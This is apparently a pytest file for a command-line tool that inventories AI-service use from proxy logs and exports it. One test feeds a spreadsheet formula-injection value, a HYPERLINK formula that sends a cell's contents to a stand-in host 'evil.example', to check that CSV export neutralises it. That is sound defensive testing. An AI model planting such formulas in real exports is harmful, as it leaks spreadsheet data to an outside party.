"""`shadowai inventory` and `shadowai export`: stable columns, safe for spreadsheets."""

import csv
import io
import json

from tests.cli.runner import shadowai
from tests.squid_lines import squid, write_log

T0 = 1764460800.0


def scanned(tmp_path, db_path, lines):
    log = tmp_path / "access.log"
    write_log(log, lines)
    shadowai("scan", "logs", log, "--db", db_path, "-q")
    return log


def test_a_hostile_user_field_is_exported_as_inert_text(tmp_path, db_path):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    scanned(tmp_path, db_path, [squid(T0, "chatgpt.com", user=hostile.replace(" ", "%20"))])
    out = tmp_path / "export.csv"
    assert shadowai("export", "--format", "csv", "--out", out, "--db", db_path).exit_code == 0
    [row] = list(csv.DictReader(out.open(encoding="utf-8")))
    assert row["subject"] == "'" + hostile
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())


def test_export_columns_are_the_documented_ones(tmp_path, db_path):
    scanned(tmp_path, db_path, [squid(T0, "claude.ai", user="ann"), squid(T0 + 5, "claude.ai", user="ann")])
    text = shadowai("export", "--out", "-", "--db", db_path).stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    assert list(rows[0]) == [
        "service_id", "service_name", "vendor", "category", "sanction_status", "source", "subject", "location",
        "first_seen", "last_seen", "hits", "first_run", "last_run", "matched_by", "evidence", "finding_id",
        "consenting_users", "admin_consent"]
    assert (rows[0]["service_id"], rows[0]["hits"], rows[0]["sanction_status"]) == ("claude", "2", "unsanctioned")


def test_jsonl_export_has_one_object_per_finding(tmp_path, db_path):
    scanned(tmp_path, db_path, [squid(T0, "claude.ai", user="a"), squid(T0, "chatgpt.com", user="b")])
    lines = shadowai("export", "--format", "jsonl", "--out", "-", "--db", db_path).stdout.splitlines()
    assert sorted(json.loads(line)["service_id"] for line in lines) == ["chatgpt", "claude"]


def test_inventory_groups_by_service_and_honours_sanctions(tmp_path, db_path):
    scanned(tmp_path, db_path, [squid(T0, "claude.ai", user="a"), squid(T0, "claude.ai", user="b"),
                                squid(T0, "chatgpt.com", user="b")])
    rows = json.loads(shadowai("inventory", "--format", "json", "--db", db_path).stdout)
    claude = next(r for r in rows if r["service_id"] == "claude")
    assert (claude["subjects"], claude["hits"], claude["sanction"]) == (2, 2, "unsanctioned")
    import sqlite3
    with sqlite3.connect(db_path) as conn:
        conn.execute("insert into sanctions (target, status, owner) values ('claude', 'sanctioned', 'CISO')")
    shadow = json.loads(shadowai("inventory", "--unsanctioned", "--format", "json", "--db", db_path).stdout)
    assert [r["service_id"] for r in shadow] == ["chatgpt"]


def test_inventory_on_a_missing_database_says_so(tmp_path):
    result = shadowai("inventory", "--db", tmp_path / "none.db")
    assert result.exit_code == 1 and "no inventory database here" in result.output
